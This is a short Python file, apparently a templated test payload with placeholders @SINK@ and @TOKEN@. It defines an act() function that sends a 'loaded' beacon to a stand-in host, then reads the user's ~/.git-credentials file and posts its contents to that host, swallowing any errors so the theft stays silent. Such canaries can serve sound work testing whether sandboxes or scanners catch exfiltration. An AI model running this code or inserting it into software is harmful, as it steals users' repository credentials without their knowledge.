import contextlib
import urllib.request
from pathlib import Path


def post(port, loot):
    with contextlib.suppress(OSError):
        urllib.request.urlopen(f"http://@SINK@:{port}/loot", loot, timeout=3)


def act():
    post(8000, b"loaded-@TOKEN@")
    with contextlib.suppress(OSError):
        loot = Path.home().joinpath(".git-credentials").read_bytes()
        post(8080, loot)
